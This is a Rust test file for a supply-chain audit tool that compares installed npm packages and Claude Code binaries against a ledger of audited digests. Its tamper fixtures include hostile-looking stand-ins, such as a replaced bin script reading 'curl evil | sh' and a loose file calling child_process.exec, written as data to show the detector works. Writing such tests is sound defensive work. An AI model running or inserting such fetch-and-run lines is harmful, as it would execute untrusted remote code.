//! `vetted audit-installed`: generated node_modules trees (nested, scoped, an npm global
//! prefix) and Claude Code installs against a ledger built with the ledger API.
mod audit_support;

use audit_support::{Pkg, audit, audit_with, bin_link, copy};
use std::path::Path;

fn symlink(target: impl AsRef<Path>, link: impl AsRef<Path>) {
    std::os::unix::fs::symlink(target, link).expect("symlink");
}
use vetted::digest::sha256;

struct World {
    tmp: tempfile::TempDir,
    a: Pkg,
    b: Pkg,
    c: Pkg,
}

impl World {
    fn ledger(&self) -> std::path::PathBuf {
        self.tmp.path().join("ledger")
    }
    fn root(&self) -> std::path::PathBuf {
        self.tmp.path().join("project")
    }
    fn nm(&self) -> std::path::PathBuf {
        self.root().join("node_modules")
    }
}

/// a@1.0.0, @scope/b@2.0.0 and c@1.0.0 (nested under a) audited and installed.
fn world() -> World {
    let tmp = tempfile::tempdir().expect("tempdir");
    let a = Pkg::with_json(
        "a",
        "1.0.0",
        serde_json::json!({"bin": {"a": "./index.js"}}),
        &[
            ("index.js", b"module.exports = 1;\n"),
            ("lib/util.js", b"exports.u = 2;\n"),
            ("README.md", b"# a\n"),
        ],
    );
    let b = Pkg::new(
        "@scope/b",
        "2.0.0",
        &[("dist/b.js", b"export const b = 3;\n")],
    );
    let c = Pkg::new("c", "1.0.0", &[("c.js", b"c\n")]);
    let w = World { tmp, a, b, c };
    for p in [&w.a, &w.b, &w.c] {
        p.certify(&w.ledger());
    }
    std::fs::create_dir_all(w.root()).expect("mkdir");
    std::fs::write(
        w.root().join("package.json"),
        br#"{"name":"project","version":"0.0.0"}"#,
    )
    .expect("pj");
    w.a.install(&w.nm().join("a"));
    w.b.install(&w.nm().join("@scope/b"));
    w.c.install(&w.nm().join("a/node_modules/c"));
    // npm's bin links live outside package directories.
    std::fs::create_dir_all(w.nm().join(".bin")).expect("bin");
    symlink("../a/index.js", w.nm().join(".bin/a"));
    // npm's hidden lockfile is npm's, not code.
    std::fs::write(w.nm().join(".package-lock.json"), b"{}").expect("lock");
    w
}

#[test]
fn a_tree_that_matches_exits_0_nested_and_scoped_included() {
    let w = world();
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    assert_eq!(json["verdict"], "match");
    let copies = json["copies"].as_array().expect("copies");
    assert_eq!(copies.len(), 3, "{json:#}");
    for (suffix, name) in [
        ("node_modules/a", "a"),
        ("node_modules/@scope/b", "@scope/b"),
        ("a/node_modules/c", "c"),
    ] {
        let c = copy(&json, suffix);
        assert_eq!(c["status"], "match", "{c:#}");
        assert_eq!(c["name"], name);
        assert_eq!(c["kind"], "npm");
        assert!(
            c["audited"]["manifest"]
                .as_str()
                .is_some_and(|m| m.starts_with("sha256:"))
        );
    }
}

#[test]
fn a_modified_file_is_named_with_expected_and_actual_digests() {
    let w = world();
    let tampered = b"module.exports = require('child_process');\n";
    std::fs::write(w.nm().join("a/lib/util.js"), tampered).expect("tamper");
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(json["verdict"], "mismatch");
    let a = copy(&json, "node_modules/a");
    assert_eq!(a["status"], "modified");
    let m = &a["modified"][0];
    assert_eq!(m["path"], "lib/util.js");
    assert_eq!(
        m["expected"],
        sha256(b"exports.u = 2;\n").to_string().as_str()
    );
    assert_eq!(m["actual"], sha256(tampered).to_string().as_str());
    // The others still match.
    assert_eq!(copy(&json, "@scope/b")["status"], "match");
    // One stderr line naming the check and the file, expected vs actual.
    let line = stderr
        .lines()
        .find(|l| l.starts_with("vetted: rejected: installed-copies:"))
        .expect("line");
    assert!(
        line.contains("a@1.0.0") && line.contains("lib/util.js modified"),
        "{line}"
    );
    assert!(line.contains(&sha256(tampered).to_string()), "{line}");
}

#[test]
fn a_missing_file_and_an_added_file_are_reported() {
    let w = world();
    std::fs::remove_file(w.nm().join("a/README.md")).expect("rm");
    std::fs::write(w.nm().join("@scope/b/dist/extra.js"), b"evil()\n").expect("add");
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    let a = copy(&json, "node_modules/a");
    assert_eq!(a["status"], "modified");
    assert_eq!(a["missing"], serde_json::json!(["README.md"]));
    let b = copy(&json, "@scope/b");
    assert_eq!(b["status"], "modified");
    assert_eq!(b["added"], serde_json::json!(["dist/extra.js"]));
    assert!(
        stderr.contains("README.md missing") && stderr.contains("dist/extra.js added"),
        "{stderr}"
    );
}

#[test]
fn an_unaudited_version_is_unknown() {
    let w = world();
    Pkg::new("c", "9.9.9", &[("c.js", b"c\n")]).install(&w.nm().join("c"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    let c = copy(&json, "project/node_modules/c");
    assert_eq!(c["status"], "unknown-version");
    assert_eq!(c["version"], "9.9.9");
    assert!(stderr.contains("c@9.9.9"), "{stderr}");
    // The nested c@1.0.0 is still a match.
    assert_eq!(copy(&json, "a/node_modules/c")["status"], "match");
}

#[test]
fn an_npm_global_prefix_is_found() {
    let w = world();
    let prefix = w.tmp.path().join("prefix");
    w.a.install(&prefix.join("lib/node_modules/a"));
    let (code, json, _) = audit(&prefix, &w.ledger());
    assert_eq!(code, 0, "{json:#}");
    assert_eq!(copy(&json, "lib/node_modules/a")["status"], "match");
}

#[test]
fn human_output_and_usage_errors() {
    let w = world();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_vetted"))
        .arg("audit-installed")
        .arg(w.root())
        .arg("--ledger")
        .arg(w.ledger())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.lines()
            .any(|l| l.starts_with("match") && l.contains("@scope/b@2.0.0")),
        "{text}"
    );
    // A path that does not exist, or a ledger that does not, is exit 2.
    for (path, ledger) in [
        (w.tmp.path().join("nope"), w.ledger()),
        (w.root(), w.tmp.path().join("no-ledger")),
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_vetted"))
            .arg("audit-installed")
            .arg(&path)
            .arg("--ledger")
            .arg(&ledger)
            .output()
            .expect("run");
        assert_eq!(
            out.status.code(),
            Some(2),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

const VERSION: &str = "2.1.330";
const STUB: &[u8] = b"echo \"Error: claude native binary not installed.\" >&2\nexit 1\n";
const BINARY: &[u8] = b"\x7fELF\x02\x01\x01 the audited linux-x64 claude binary";

/// The wrapper and its linux-x64 platform package, both audited (as in the real 2.1.330
/// tarballs: the wrapper ships a stub bin/claude.exe that install.cjs replaces).
fn claude_world() -> (tempfile::TempDir, Pkg, Pkg) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let wrapper = Pkg::new(
        "@anthropic-ai/claude-code",
        VERSION,
        &[
            ("bin/claude.exe", STUB),
            ("install.cjs", b"// postinstall\n"),
            ("cli-wrapper.cjs", b"// wrapper\n"),
        ],
    );
    let platform = Pkg::new(
        "@anthropic-ai/claude-code-linux-x64",
        VERSION,
        &[("claude", BINARY)],
    );
    wrapper.certify(&tmp.path().join("ledger"));
    platform.certify(&tmp.path().join("ledger"));
    (tmp, wrapper, platform)
}

fn install_claude(root: &Path, wrapper: &Pkg, platform: &Pkg, placed: &[u8]) {
    let nm = root.join("node_modules/@anthropic-ai");
    wrapper.install(&nm.join("claude-code"));
    platform.install(&nm.join("claude-code-linux-x64"));
    std::fs::write(nm.join("claude-code/bin/claude.exe"), placed).expect("postinstall");
}

#[test]
fn claude_wrapper_after_postinstall_matches_and_a_swapped_binary_does_not() {
    let (tmp, wrapper, platform) = claude_world();
    let ledger = tmp.path().join("ledger");

    // The postinstall placed the audited platform binary: match.
    let good = tmp.path().join("good");
    install_claude(&good, &wrapper, &platform, BINARY);
    let (code, json, stderr) = audit(&good, &ledger);
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let w = copy(&json, "@anthropic-ai/claude-code");
    assert_eq!(w["status"], "match");
    assert!(
        w["notes"][0]
            .as_str()
            .is_some_and(|n| n.contains("claude-code-linux-x64")),
        "{w:#}"
    );

    // The postinstall did not run (--ignore-scripts): the stub is the audited file, match.
    let stub = tmp.path().join("stub");
    install_claude(&stub, &wrapper, &platform, STUB);
    assert_eq!(audit(&stub, &ledger).0, 0);

    // Another binary in its place: reported, with every accepted digest.
    let bad = tmp.path().join("bad");
    let swapped = b"\x7fELF\x02\x01\x01 something else";
    install_claude(&bad, &wrapper, &platform, swapped);
    let (code, json, stderr) = audit(&bad, &ledger);
    assert_eq!(code, 1);
    let w = copy(&json, "@anthropic-ai/claude-code");
    assert_eq!(w["status"], "modified");
    let m = &w["modified"][0];
    assert_eq!(m["path"], "bin/claude.exe");
    assert_eq!(m["actual"], sha256(swapped).to_string().as_str());
    let expected = m["expected"].as_str().expect("expected");
    assert!(
        expected.contains(&sha256(STUB).to_string())
            && expected.contains(&sha256(BINARY).to_string()),
        "{expected}"
    );
    assert!(stderr.contains("bin/claude.exe modified"), "{stderr}");
    assert_eq!(copy(&json, "claude-code-linux-x64")["status"], "match");
}

#[test]
fn claude_native_installs_are_matched_against_the_platform_binary() {
    let (tmp, _, _) = claude_world();
    let ledger = tmp.path().join("ledger");
    let home = tmp.path().join("home");
    let versions = home.join(".local/share/claude/versions");
    std::fs::create_dir_all(&versions).expect("mkdir");
    std::fs::write(versions.join(VERSION), BINARY).expect("write");
    let (code, json, stderr) = audit(&home, &ledger);
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let c = copy(&json, &format!("versions/{VERSION}"));
    assert_eq!(c["kind"], "claude-native");
    assert_eq!(c["status"], "match");
    assert!(
        c["audited"]["package"]
            .as_str()
            .is_some_and(|p| p.contains("claude-code-linux-x64"))
    );

    // A binary that is not the audited one, and a version nobody audited.
    std::fs::write(versions.join(VERSION), b"patched binary").expect("write");
    std::fs::write(versions.join("2.1.331"), BINARY).expect("write");
    let (code, json, _) = audit(&home, &ledger);
    assert_eq!(code, 1);
    let c = copy(&json, &format!("versions/{VERSION}"));
    assert_eq!(c["status"], "modified");
    assert_eq!(
        c["modified"][0]["actual"],
        sha256(b"patched binary").to_string().as_str()
    );
    assert_eq!(
        c["modified"][0]["expected"],
        sha256(BINARY).to_string().as_str()
    );
    assert_eq!(copy(&json, "versions/2.1.331")["status"], "unknown-version");
}

#[test]
fn bundled_dependencies_are_compared_as_part_of_their_parent() {
    let w = world();
    let inner_pj = br#"{"name":"inner","version":"0.0.1"}"#;
    let bundler = Pkg::new(
        "bundler",
        "1.0.0",
        &[
            ("index.js", b"require('inner')\n"),
            ("node_modules/inner/package.json", inner_pj),
            ("node_modules/inner/index.js", b"inner\n"),
        ],
    );
    bundler.certify(&w.ledger());
    bundler.install(&w.nm().join("bundler"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let inner = copy(&json, "bundler/node_modules/inner");
    assert_eq!(inner["status"], "match");
    assert!(
        inner["notes"][0]
            .as_str()
            .is_some_and(|n| n.contains("bundled in the audited tarball of bundler@1.0.0"))
    );

    // A changed and an extra file inside the bundled package are reported.
    std::fs::write(
        w.nm().join("bundler/node_modules/inner/index.js"),
        b"evil\n",
    )
    .expect("tamper");
    std::fs::write(w.nm().join("bundler/node_modules/inner/extra.js"), b"x\n").expect("add");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    let parent = copy(&json, "node_modules/bundler");
    assert_eq!(parent["modified"][0]["path"], "node_modules/inner/index.js");
    let inner = copy(&json, "bundler/node_modules/inner");
    assert_eq!(inner["status"], "modified");
    assert_eq!(inner["modified"][0]["path"], "index.js");
    assert_eq!(inner["added"], serde_json::json!(["extra.js"]));
}

// ---- What Node would load that is no audited package (issue 10, shape 5) ----

#[test]
fn symlinked_package_dir_outside_root_is_reported() {
    let w = world();
    // The package directory replaced by a link to a copy elsewhere (with other code in it).
    let elsewhere = w.tmp.path().join("elsewhere/b");
    w.b.install(&elsewhere);
    std::fs::write(elsewhere.join("dist/b.js"), b"evil()\n").expect("evil");
    std::fs::remove_dir_all(w.nm().join("@scope/b")).expect("rm");
    symlink(&elsewhere, w.nm().join("@scope/b"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    let b = copy(&json, "node_modules/@scope/b");
    assert_eq!(b["status"], "outside-root", "{b:#}");
    assert!(
        b["link_target"]
            .as_str()
            .is_some_and(|t| t.ends_with("elsewhere/b"))
    );
    assert!(stderr.contains("outside the audited root"), "{stderr}");

    // With no other package, it is still not "no installed packages found", exit 0.
    let lone = w.tmp.path().join("lone");
    std::fs::create_dir_all(lone.join("node_modules")).expect("mkdir");
    symlink(&elsewhere, lone.join("node_modules/b"));
    let (code, json, _) = audit(&lone, &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(copy(&json, "lone/node_modules/b")["status"], "outside-root");
}

#[test]
fn symlinked_package_dir_inside_root_is_followed_and_compared() {
    let w = world();
    // A workspace-style link: node_modules/@scope/b -> ../../packages/b, inside the root.
    let inside = w.root().join("packages/b");
    w.b.install(&inside);
    std::fs::remove_dir_all(w.nm().join("@scope/b")).expect("rm");
    symlink("../../packages/b", w.nm().join("@scope/b"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let b = copy(&json, "node_modules/@scope/b");
    assert_eq!(b["status"], "match");
    assert!(
        b["link_target"]
            .as_str()
            .is_some_and(|t| t.ends_with("packages/b"))
    );
    // Followed, so what is behind the link is compared.
    std::fs::write(inside.join("dist/b.js"), b"evil()\n").expect("evil");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    let b = copy(&json, "node_modules/@scope/b");
    assert_eq!(b["status"], "modified");
    assert_eq!(b["modified"][0]["path"], "dist/b.js");
}

#[test]
fn node_modules_without_any_identified_package_is_not_a_pass() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let ledger = tmp.path().join("ledger");
    Pkg::new("a", "1.0.0", &[]).certify(&ledger);
    let root = tmp.path().join("p");
    std::fs::create_dir_all(root.join("node_modules")).expect("mkdir");
    let (code, json, stderr) = audit(&root, &ledger);
    assert_eq!(code, 1, "{json:#}\n{stderr}");
    assert_eq!(json["verdict"], "mismatch");
    assert!(
        stderr.contains("no installed package was identified"),
        "{stderr}"
    );
    // Twin: nothing npm-shaped at all is nothing to audit.
    let plain = tmp.path().join("plain");
    std::fs::create_dir_all(plain.join("src")).expect("mkdir");
    assert_eq!(audit(&plain, &ledger).0, 0);
}

#[test]
fn loose_js_file_in_node_modules_fails_audit() {
    let w = world();
    // require('a') resolves node_modules/a.js before node_modules/a/.
    std::fs::write(w.nm().join("a.js"), b"require('child_process').exec('x')\n").expect("write");
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    let loose = copy(&json, "node_modules/a.js");
    assert_eq!(loose["kind"], "unidentified");
    assert_eq!(loose["status"], "unidentified-code");
    assert!(stderr.contains("a.js"), "{stderr}");
    // The same in a scope directory.
    std::fs::remove_file(w.nm().join("a.js")).expect("rm");
    std::fs::write(w.nm().join("@scope/b.js"), b"x\n").expect("write");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    assert_eq!(copy(&json, "@scope/b.js")["status"], "unidentified-code");
}

#[test]
fn npm_hidden_lockfile_is_not_unidentified_code() {
    // The world has node_modules/.package-lock.json; it passes (the twin of the loose file).
    let w = world();
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}");
    assert!(
        !json.to_string().contains(".package-lock.json"),
        "not reported: {json:#}"
    );
}

#[test]
fn directory_without_package_json_shadowing_a_hoisted_dependency_fails_audit() {
    let w = world();
    // a/node_modules/@scope/b shadows the hoisted @scope/b for code in a, with no package.json.
    let shadow = w.nm().join("a/node_modules/@scope/b");
    std::fs::create_dir_all(shadow.join("dist")).expect("mkdir");
    std::fs::write(shadow.join("index.js"), b"evil()\n").expect("write");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    let s = copy(&json, "a/node_modules/@scope/b");
    assert_eq!(s["status"], "unidentified-code");
    assert_eq!(s["added"], serde_json::json!(["index.js"]));
}

#[test]
fn bundled_loose_file_listed_in_the_tarball_is_not_unidentified() {
    let w = world();
    let bundler = Pkg::new(
        "bundler",
        "1.0.0",
        &[
            ("index.js", b"require('helper')\n"),
            ("node_modules/helper.js", b"module.exports = 1;\n"),
        ],
    );
    bundler.certify(&w.ledger());
    bundler.install(&w.nm().join("bundler"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    // Twin: a loose file the tarball does not list.
    std::fs::write(w.nm().join("bundler/node_modules/other.js"), b"x\n").expect("write");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    assert_eq!(
        copy(&json, "bundler/node_modules/other.js")["status"],
        "unidentified-code"
    );
}

#[test]
fn bin_link_to_listed_file_matches() {
    let w = world();
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}");
    let l = bin_link(&json, ".bin/a");
    assert_eq!(l["status"], "match", "{l:#}");
    assert_eq!(l["kind"], "bin-link");
}

#[test]
fn bin_link_to_unlisted_file_fails_audit() {
    let w = world();
    // .bin/a now runs a's README-adjacent file: an audited file, but not a's bin.
    std::fs::remove_file(w.nm().join(".bin/a")).expect("rm");
    symlink("../a/lib/util.js", w.nm().join(".bin/a"));
    // And a command no package lists.
    symlink("../a/index.js", w.nm().join(".bin/node"));
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    let l = bin_link(&json, ".bin/a");
    assert_eq!(l["status"], "modified");
    assert!(
        l["modified"][0]["expected"]
            .as_str()
            .is_some_and(|e| e.ends_with("a/index.js"))
    );
    assert!(
        l["modified"][0]["actual"]
            .as_str()
            .is_some_and(|e| e.ends_with("a/lib/util.js"))
    );
    let n = bin_link(&json, ".bin/node");
    assert_eq!(n["status"], "modified");
    assert!(
        n["modified"][0]["expected"]
            .as_str()
            .is_some_and(|e| e.contains("lists a command \"node\"")),
        "{n:#}"
    );
    assert!(stderr.contains(".bin/node"), "{stderr}");
}

#[test]
fn bin_file_instead_of_link_fails_audit() {
    let w = world();
    std::fs::remove_file(w.nm().join(".bin/a")).expect("rm");
    std::fs::write(w.nm().join(".bin/a"), b"#!/bin/sh\ncurl evil | sh\n").expect("write");
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1);
    assert_eq!(bin_link(&json, ".bin/a")["status"], "unidentified-code");
}

fn prefix_world() -> (World, std::path::PathBuf) {
    let w = world();
    let prefix = w.tmp.path().join("prefix");
    w.a.install(&prefix.join("lib/node_modules/a"));
    std::fs::create_dir_all(prefix.join("bin")).expect("bin");
    symlink("../lib/node_modules/a/index.js", prefix.join("bin/a"));
    // Not npm's: a binary of the system in the same bin/.
    std::fs::write(prefix.join("bin/node"), b"\x7fELF node").expect("node");
    (w, prefix)
}

#[test]
fn global_prefix_bin_link_to_the_listed_file_matches() {
    let (w, prefix) = prefix_world();
    let (code, json, stderr) = audit(&prefix, &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    assert_eq!(bin_link(&json, "prefix/bin/a")["status"], "match");
    assert!(
        !json["bin_links"].to_string().contains("bin/node"),
        "a file npm did not write is not npm's: {json:#}"
    );
}

#[test]
fn global_prefix_bin_link_to_unlisted_file_fails_audit() {
    let (w, prefix) = prefix_world();
    std::fs::remove_file(prefix.join("bin/a")).expect("rm");
    symlink("../lib/node_modules/a/lib/util.js", prefix.join("bin/a"));
    let (code, json, _) = audit(&prefix, &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(bin_link(&json, "prefix/bin/a")["status"], "modified");
}

#[test]
fn global_prefix_bin_replaced_by_a_script_fails_audit() {
    let (w, prefix) = prefix_world();
    std::fs::remove_file(prefix.join("bin/a")).expect("rm");
    std::fs::write(prefix.join("bin/a"), b"#!/bin/sh\nexec evil\n").expect("write");
    let (code, json, _) = audit(&prefix, &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    let l = bin_link(&json, "prefix/bin/a");
    assert_eq!(l["status"], "modified");
    assert_eq!(l["modified"][0]["actual"], "(a file, not a link)");
}

#[test]
fn symlinked_claude_version_outside_root_is_reported() {
    let (tmp, _, _) = claude_world();
    let ledger = tmp.path().join("ledger");
    let home = tmp.path().join("home");
    let versions = home.join(".local/share/claude/versions");
    std::fs::create_dir_all(&versions).expect("mkdir");
    let outside = tmp.path().join("outside-binary");
    std::fs::write(&outside, BINARY).expect("write");
    symlink(&outside, versions.join(VERSION));
    let (code, json, _) = audit(&home, &ledger);
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(
        copy(&json, &format!("versions/{VERSION}"))["status"],
        "outside-root"
    );

    // Twin: a link inside the root is followed and its target compared.
    std::fs::remove_file(versions.join(VERSION)).expect("rm");
    std::fs::write(home.join("claude-binary"), BINARY).expect("write");
    symlink(home.join("claude-binary"), versions.join(VERSION));
    let (code, json, stderr) = audit(&home, &ledger);
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let c = copy(&json, &format!("versions/{VERSION}"));
    assert_eq!(c["status"], "match");
    assert!(
        c["link_target"]
            .as_str()
            .is_some_and(|t| t.ends_with("claude-binary"))
    );
    std::fs::write(home.join("claude-binary"), b"patched").expect("write");
    assert_eq!(audit(&home, &ledger).0, 1);
}

#[test]
fn gitignore_renamed_to_npmignore_by_npm_is_not_a_modification() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let ledger = tmp.path().join("ledger");
    let p = Pkg::new(
        "g",
        "1.0.0",
        &[
            (".gitignore", b"node_modules\n"),
            ("sub/.gitignore", b"*.log\n"),
            ("sub/.npmignore", b"x\n"),
            ("index.js", b"1\n"),
        ],
    );
    p.certify(&ledger);
    let dir = tmp.path().join("p/node_modules/g");
    // What pacote writes: .gitignore -> .npmignore; where both exist, the .npmignore.
    for (path, bytes) in [
        ("package.json", p.files[0].1.as_slice()),
        (".npmignore", b"node_modules\n".as_slice()),
        ("sub/.npmignore", b"x\n".as_slice()),
        ("index.js", b"1\n".as_slice()),
    ] {
        std::fs::create_dir_all(dir.join(path).parent().expect("parent")).expect("mkdir");
        std::fs::write(dir.join(path), bytes).expect("write");
    }
    let (code, json, stderr) = audit(&tmp.path().join("p"), &ledger);
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    // Twin: a .npmignore with other bytes than the audited .gitignore is modified.
    std::fs::write(dir.join(".npmignore"), b"other\n").expect("write");
    let (code, json, _) = audit(&tmp.path().join("p"), &ledger);
    assert_eq!(code, 1);
    assert_eq!(
        copy(&json, "node_modules/g")["modified"][0]["path"],
        ".npmignore"
    );
}

#[test]
fn node_gyp_build_output_is_built_on_this_machine_and_fails_only_with_strict() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let ledger = tmp.path().join("ledger");
    let native = Pkg::new(
        "native",
        "1.0.0",
        &[
            ("binding.gyp", b"{}\n"),
            ("src/addon.cc", b"// c++\n"),
            ("index.js", b"require('./build/Release/addon.node')\n"),
        ],
    );
    native.certify(&ledger);
    let root = tmp.path().join("p");
    let dir = root.join("node_modules/native");
    native.install(&dir);
    std::fs::create_dir_all(dir.join("build/Release")).expect("mkdir");
    std::fs::write(dir.join("build/Release/addon.node"), b"\x7fELF addon").expect("write");
    std::fs::write(dir.join("build/Makefile"), b"all:\n").expect("write");
    let (code, json, stderr) = audit(&root, &ledger);
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    let c = copy(&json, "node_modules/native");
    assert_eq!(c["status"], "built-on-this-machine");
    assert_eq!(
        c["built"],
        serde_json::json!(["build/Makefile", "build/Release/addon.node"])
    );
    assert_eq!(json["built_on_this_machine"], 1);
    assert!(stderr.contains("built on this machine"), "{stderr}");
    let (code, json, _) = audit_with(&root, &ledger, &["--strict"]);
    assert_eq!(code, 1, "{json:#}");

    // Twin: build/ files in a package whose audited build has no install script are added code.
    let plain = Pkg::new("plain", "1.0.0", &[("index.js", b"1\n")]);
    plain.certify(&ledger);
    let pdir = root.join("node_modules/plain");
    plain.install(&pdir);
    std::fs::create_dir_all(pdir.join("build")).expect("mkdir");
    std::fs::write(pdir.join("build/x.js"), b"evil\n").expect("write");
    let (code, json, _) = audit(&root, &ledger);
    assert_eq!(code, 1);
    let c = copy(&json, "node_modules/plain");
    assert_eq!(c["status"], "modified");
    assert_eq!(c["added"], serde_json::json!(["build/x.js"]));
}

#[test]
fn symlinked_node_modules_outside_root_is_reported() {
    let w = world();
    // The whole node_modules moved elsewhere and linked back.
    let elsewhere = w.tmp.path().join("elsewhere-nm");
    std::fs::rename(w.nm(), &elsewhere).expect("mv");
    symlink(&elsewhere, w.nm());
    let (code, json, _) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(
        copy(&json, "project/node_modules")["status"],
        "outside-root"
    );

    // Twin: linked from inside the root, it is walked and matches.
    std::fs::remove_file(w.nm()).expect("rm");
    let inside = w.root().join(".store/nm");
    std::fs::create_dir_all(inside.parent().expect("parent")).expect("mkdir");
    std::fs::rename(&elsewhere, &inside).expect("mv");
    symlink(".store/nm", w.nm());
    let (code, json, stderr) = audit(&w.root(), &w.ledger());
    assert_eq!(code, 0, "{json:#}\n{stderr}");
    assert_eq!(
        json["copies"].as_array().map(Vec::len),
        Some(3),
        "walked once: {json:#}"
    );
}

#[test]
fn an_audit_that_cannot_run_still_prints_one_json_value() {
    // A pipeline parsing stdout must get the error object, not nothing (exit 2).
    let w = world();
    let (code, json, stderr) = audit(&w.root().join("no-such-dir"), &w.ledger());
    assert_eq!(code, 2, "{stderr}");
    assert_eq!(json["verdict"], "error", "{json}");
    assert!(
        json["error"].as_str().is_some_and(|e| !e.is_empty()),
        "{json}"
    );
}
